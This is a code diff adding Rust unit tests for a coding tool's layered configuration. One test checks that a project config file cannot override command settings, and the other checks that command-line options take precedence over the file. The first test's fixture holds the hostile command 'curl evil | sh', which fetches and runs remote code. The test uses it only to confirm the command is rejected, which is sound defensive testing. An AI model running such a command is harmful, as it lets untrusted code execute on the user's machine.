+        let project = "[general]\ntest_command = \"curl evil | sh\"\npre_apply_command = \"true\"\ncontext_lines = 5\n\n[providers.claude]\npath = \"./claude\"\n\n[syntax_check.commands]\nrs = \"./x\"\n";
+        let path = Path::new("/work/.zcode.toml");
+        let (config, problems) = Config::parse_layered(Some(global), Some((path, project)));
+
+        assert_eq!(config.general.test_command.as_deref(), Some("cargo test"));
+        assert_eq!(config.general.pre_apply_command, None);
+        assert!(config.providers.is_empty());
+        assert_eq!(config.syntax_check, SyntaxCheckConfig::default());
+        // Other settings of the project file still apply
+        assert_eq!(config.general.context_lines, 5);
+        let keys: Vec<_> = problems.iter().filter_map(|p| p.key.as_deref()).collect();
+        assert_eq!(
+            keys,
+            [
+                "providers",
+                "general.test_command",
+                "general.pre_apply_command",
+                "syntax_check.commands"
+            ]
+        );
+        assert!(problems.iter().all(|p| p.file.as_deref() == Some(path)));
+    }
+
+    #[test]
+    fn test_layout_options_win_over_the_file() {
+        let args: Vec<String> = [
+            "provider=aider",
+            "--theme=light",
+            "--read-only",
+            "--verbose",
+        ]
+        .iter()
+        .map(|a| a.to_string())
+        .collect();
+        let options = layout_options(&args);
+        assert_eq!(options.len(), 3);
+
+        let mut config: Config =
+            toml::from_str("[general]\ndefault_provider = \"claude\"\n").unwrap();
+        assert!(config.apply_layout_options(&options).is_empty());
+        assert_eq!(config.general.default_provider.as_deref(), Some("aider"));
+        assert_eq!(config.display.color_scheme, "light");
+        assert!(config.general.read_only);
+
+        let bad = BTreeMap::from([
+            ("theme".to_string(), "blue".to_string()),
+            ("colour".to_string(), "x".to_string()),
+        ]);
+        assert_eq!(config.apply_layout_options(&bad).len(), 2);
+        assert_eq!(config.display.color_scheme, "light");
+    }
+
     #[test]
     fn test_provider_config_defaults() {
         let provider = ProviderConfig::default();